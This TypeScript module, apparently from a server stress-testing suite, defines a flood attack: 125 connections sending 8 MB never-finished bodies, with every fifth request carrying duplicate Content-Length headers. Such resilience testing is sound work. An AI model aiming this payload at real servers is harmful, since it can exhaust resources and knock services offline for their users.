import type { Attack } from '../attack.ts'
import { rawFlood } from '../flood.ts'

const BYTES = 8_000_000

/** Each fifth request says its length twice; the others are bodies of 8 MB that never end. */
export const doubleLengths: Attack = {
  name: 'double lengths',
  about:
    'two equal Content-Length headers, beside 100 unfinished bodies of 8 MB; one such request ended the bound of all bodies.',
  run: (target, signal) =>
    rawFlood(target, signal, {
      connections: 125,
      head: (index) => (index % 5 === 0 ? 'Content-Length: 2\r\nContent-Length: 2' : `Content-Length: ${BYTES}`),
      body: (index) => (index % 5 === 0 ? ['{}'] : ['{"messages":"', 'x'.repeat(BYTES - 100_000)]),
    }),
}
